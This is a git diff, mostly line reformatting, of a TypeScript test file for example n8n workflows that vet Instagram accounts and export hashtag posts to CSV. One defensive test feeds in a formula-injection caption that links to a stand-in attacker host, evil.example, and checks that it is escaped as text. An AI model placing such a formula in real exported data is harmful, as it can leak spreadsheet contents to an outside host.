@@ -46,7 +46,12 @@ async function ask(key: string, path: string): Promise<Record<string, any>> {
 describe('the example "vet a list of accounts"', () => {
   type Thresholds = { min_followers: number; min_engagement_rate_pct: number; min_estimated_real_pct: number };
   const thresholdsOf = (wf: Workflow): Thresholds =>
-    Object.fromEntries(node(wf, 'Thresholds').parameters.assignments.assignments.map((a: { name: string; value: number }) => [a.name, a.value])) as Thresholds;
+    Object.fromEntries(
+      node(wf, 'Thresholds').parameters.assignments.assignments.map((a: { name: string; value: number }) => [
+        a.name,
+        a.value,
+      ]),
+    ) as Thresholds;
   const setThresholds = (wf: Workflow, t: Thresholds) => {
     for (const a of node(wf, 'Thresholds').parameters.assignments.assignments) a.value = t[a.name as keyof Thresholds];
   };
@@ -59,7 +64,13 @@ describe('the example "vet a list of accounts"', () => {
     for (const handle of handles) {
       const e = await ask(key, `insights/profile/engagement?handle=${encodeURIComponent(handle)}&posts=12`);
       const a = await ask(key, `insights/profile/audit?handle=${encodeURIComponent(handle)}&sample=100`);
-      out.push({ account: e.username as string, followers: e.followers as number, engagement_rate_pct: e.engagement_rate_pct as number, estimated_real_pct: a.estimated_real_pct as number, quality_grade: a.quality_grade as string });
+      out.push({
+        account: e.username as string,
+        followers: e.followers as number,
+        engagement_rate_pct: e.engagement_rate_pct as number,
+        estimated_real_pct: a.estimated_real_pct as number,
+        quality_grade: a.quality_grade as string,
+      });
     }
     return out;
   }
@@ -70,7 +81,12 @@ describe('the example "vet a list of accounts"', () => {
       k.engagement_rate_pct < t.min_engagement_rate_pct ? 'engagement rate' : '',
       k.estimated_real_pct < t.min_estimated_real_pct ? 'real followers' : '',
     ].filter(Boolean);
-    return { ...k, profile: `https://www.instagram.com/${k.account}/`, verdict: short.length ? 'reject' : 'pass', falls_short_on: short.join(', ') };
+    return {
+      ...k,
+      profile: `https://www.instagram.com/${k.account}/`,
+      verdict: short.length ? 'reject' : 'pass',
+      falls_short_on: short.join(', '),
+    };
   };
   const run = async (wf: Workflow) => {
     world.sb.resetStats();
@@ -80,7 +96,7 @@ describe('the example "vet a list of accounts"', () => {
     return { pass: output('Pass'), reject: output('Reject'), stats: world.sb.stats(), r };
   };
 
-  test('verdicts are the thresholds applied to each account\'s figures; 8 credits an account; new thresholds, new verdicts', async () => {
+  test("verdicts are the thresholds applied to each account's figures; 8 credits an account; new thresholds, new verdicts", async () => {
     const wf = example('vet-accounts.json');
     const accounts = await known(wf);
     expect(accounts).toHaveLength(8);
@@ -89,8 +105,14 @@ describe('the example "vet a list of accounts"', () => {
 
     const expected = accounts.map((k) => verdictOf(k, shipped));
     // The list is chosen so that each threshold turns at least one account away and four pass.
-    expect(expected.filter((v) => v.verdict === 'pass').map((v) => v.account)).toEqual(['ida.shoots', 'kalewithhugo', 'traveldaily', 'hugo.compass']);
-    for (const why of ['followers', 'engagement rate', 'real followers']) expect(expected.some((v) => v.falls_short_on.includes(why))).toBe(true);
+    expect(expected.filter((v) => v.verdict === 'pass').map((v) => v.account)).toEqual([
+      'ida.shoots',
+      'kalewithhugo',
+      'traveldaily',
+      'hugo.compass',
+    ]);
+    for (const why of ['followers', 'engagement rate', 'real followers'])
+      expect(expected.some((v) => v.falls_short_on.includes(why))).toBe(true);
 
     const first = await run(wf);
     expect(first.pass).toEqual(expected.filter((v) => v.verdict === 'pass'));
@@ -135,7 +157,11 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
   const publish = async (count: number) => {
     const res = await fetch(`${world.sb.url}/_sandbox/hashtag/veganrecipes/publish?count=${count}`, { method: 'POST' });
     expect(res.status).toBe(200);
-    return ((await res.json()) as { published: { id: string; shortcode: string; url: string; taken_at: string; author: string }[] }).published;
+    return (
+      (await res.json()) as {
+        published: { id: string; shortcode: string; url: string; taken_at: string; author: string }[];
+      }
+    ).published;
   };
 
   test('across real polls every new post is one CSV row and one image file, oldest first, never twice; 1 credit a poll', async () => {
@@ -159,7 +185,9 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
       return p.executions[0];
     });
     // One CSV per run that found new posts, named by its execution; the posts oldest first.
-    const csvFiles = readdirSync(path).filter((f) => f.endsWith('.csv')).sort((a, b) => parseInt(a.slice(10), 10) - parseInt(b.slice(10), 10));
+    const csvFiles = readdirSync(path)
+      .filter((f) => f.endsWith('.csv'))
+      .sort((a, b) => parseInt(a.slice(10), 10) - parseInt(b.slice(10), 10));
     expect(csvFiles).toEqual(runs.map((e) => `new-posts-${e.id}.csv`));
     const rows = csvFiles.map((f) => parseCsv(readFileSync(join(path, f), 'utf8')));
     batches.forEach((published, i) => {
@@ -179,9 +207,19 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     });
     // Every published post once across the runs; its image the sandbox's picture, byte for byte.
     const all = batches.flat();
-    expect(rows.flat().map((r) => r.url).sort()).toEqual(all.map((p) => p.url).sort());
-    expect(readdirSync(path).filter((f) => f.endsWith('.png')).sort()).toEqual(all.map((p) => `${p.shortcode}.png`).sort());
-    for (const p of all) expect(readFileSync(join(path, `${p.shortcode}.png`)).equals(drawPicture('p', p.shortcode))).toBe(true);
+    expect(
+      rows
+        .flat()
+        .map((r) => r.url)
+        .sort(),
+    ).toEqual(all.map((p) => p.url).sort());
+    expect(
+      readdirSync(path)
+        .filter((f) => f.endsWith('.png'))
+        .sort(),
+    ).toEqual(all.map((p) => `${p.shortcode}.png`).sort());
+    for (const p of all)
+      expect(readFileSync(join(path, `${p.shortcode}.png`)).equals(drawPicture('p', p.shortcode))).toBe(true);
 
     // One page of #veganrecipes per poll, 1 credit each; the 5 images free.
     const stats = world.sb.stats();
@@ -193,8 +231,23 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
 
   test("a caption a spreadsheet would run as a formula is written as text (a leading '); others unchanged", async () => {
     const { wf, path, env } = inFolder('captions');
-    const captions = ['=HYPERLINK("https://evil.example/?"&A1,"win")', '+1 555 0100', '-2 kg', '@everyone look', '\tTAB', 'Plain #veganrecipes, with "quotes"', ''];
-    const manual = { id: 'm1', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} };
+    const captions = [
+      '=HYPERLINK("https://evil.example/?"&A1,"win")',
+      '+1 555 0100',
+      '-2 kg',
+      '@everyone look',
+      '\tTAB',
+      'Plain #veganrecipes, with "quotes"',
+      '',
+    ];
+    const manual = {
+      id: 'm1',
+      name: 'Start',
+      type: 'n8n-nodes-base.manualTrigger',
+      typeVersion: 1,
+      position: [0, 0],
+      parameters: {},
+    };
     const posts = {
       id: 'c1',
       name: 'Posts',
@@ -208,7 +261,17 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     // The example's own nodes from its CSV columns on.
     const tail = ['CSV columns', 'To CSV', 'Save CSV'].map((name) => node(wf, name));
     const chain = [manual, posts, ...tail];
-    const r = await rt.runWorkflow(world.home, { name: 'igdata csv captions', nodes: chain, connections: Object.fromEntries(chain.slice(0, -1).map((n, i) => [n.name, { main: [[{ node: chain[i + 1].name, type: 'main', index: 0 }]] }])) }, { env });
+    const r = await rt.runWorkflow(
+      world.home,
+      {
+        name: 'igdata csv captions',
+        nodes: chain,
+        connections: Object.fromEntries(
+          chain.slice(0, -1).map((n, i) => [n.name, { main: [[{ node: chain[i + 1].name, type: 'main', index: 0 }]] }]),
+        ),
+      },
+      { env },
+    );
     expect(r.error).toBeUndefined();
     const [file] = readdirSync(path);
     const rows = parseCsv(readFileSync(join(path, file), 'utf8'));
